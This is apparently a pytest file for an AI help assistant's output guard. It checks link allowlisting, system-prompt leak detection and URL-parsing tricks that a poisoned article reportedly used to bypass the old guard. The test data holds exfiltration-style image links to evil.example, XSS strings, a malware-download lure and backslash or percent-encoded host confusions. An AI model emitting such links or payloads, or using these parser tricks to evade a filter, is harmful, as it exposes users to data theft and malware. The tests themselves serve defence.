"""The output guard: links only to the product's hosts, and no identifiers or system-prompt text
an LLM could not have learned from its sources or the customer."""

from __future__ import annotations

import pytest

from copilot.safety.guard import REMOVED, Leaks, LinkPolicy

POLICY = LinkPolicy(["flowbench.io", "*.flowbench.io"])


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("see ![x](https://evil.example/a.png?d=1) now", "see  now"),
        ("[login](https://app.flowbench.io/login)", "[login](https://app.flowbench.io/login)"),
        ("[details](http://evil.test/x)", "details"),
        ("[run](javascript:alert(1))", "run"),
        ("go to https://evil.test/p?q=1", f"go to {REMOVED}"),
        ("`https://app.flowbench.io/login`", "`https://app.flowbench.io/login`"),
        ("//evil.test/x and www.evil.test/a", f"{REMOVED} and {REMOVED}"),
        ("data:text/html;base64,AAA", REMOVED),
        ('<img src="https://evil.example/x.gif">hi', "hi"),
        ("`<img src=x onerror=alert(1)>`", "`<img src=x onerror=alert(1)>`"),  # inert, on-site
        ("[doc](/articles/sso-login-loop)", "[doc](/articles/sso-login-loop)"),
        ("https://flowbench.io.evil.test/x", REMOVED),
    ],
)
def test_links_go_only_to_allowed_hosts(text: str, shown: str) -> None:
    assert POLICY.clean(text) == shown
    assert bool(POLICY.offsite(text)) == (shown != text)


def test_leaks_are_identifiers_or_prompt_text_from_nowhere() -> None:
    sources = ["Copy the key (it starts with fb_live_) and call /v2/me with HTTP 200 [1]."]
    said = [*sources, "my workspace is ws-2291ab"]
    leaks = Leaks(said, "You are the help assistant. Ref K9X-77Q1")
    assert leaks.why("Copy the key, it starts with fb_live_ [1].") is None
    assert leaks.why("Your workspace ws-2291ab is fine [1].") is None  # the customer said it
    assert "K9X-77Q1" in (leaks.why("The reference is K9X-77Q1 [1].") or "")
    assert "E4021x" in (leaks.why("Error E4021x means the key expired [1].") or "")  # made up
    prompt = "You are the help assistant of a software product and answer only from sources."
    leaks = Leaks(sources, prompt)
    assert leaks.why("Note: you are the help assistant of a software product [1].") == (
        "repeats the system prompt"
    )


# Bypasses a poisoned article got past the old guard (Python's urlsplit disagrees with browsers).
@pytest.mark.parametrize(
    "text",
    [
        "https://evil.example\\@flowbench.io/x",
        "\\\\evil.example/x",
        "https:\\\\evil.example\\x",
        "download evil-downloads.com/fixer.exe now",
        "https://user:pass@flowbench.io/login",
        "https://flowbench.io%2eevil.test/",
        "![x](\\\\evil.example/p.png)",
        "[login](https:/\\evil.example/login)",
        "see https:evil.example now",  # relative on an https page, absolute in an address bar
        "[x](http:evil.example/a)",
    ],
)
def test_urls_are_judged_as_browsers_parse_them(text: str) -> None:
    cleaned = POLICY.clean(text)
    assert "evil" not in cleaned.replace("(link removed)", "")
    assert POLICY.offsite(text)


def test_file_names_and_versions_are_not_links() -> None:
    text = "Edit config.json and setup.py, see sso-login-loop.md, e.g. version 1.2.3."
    assert POLICY.clean(text) == text
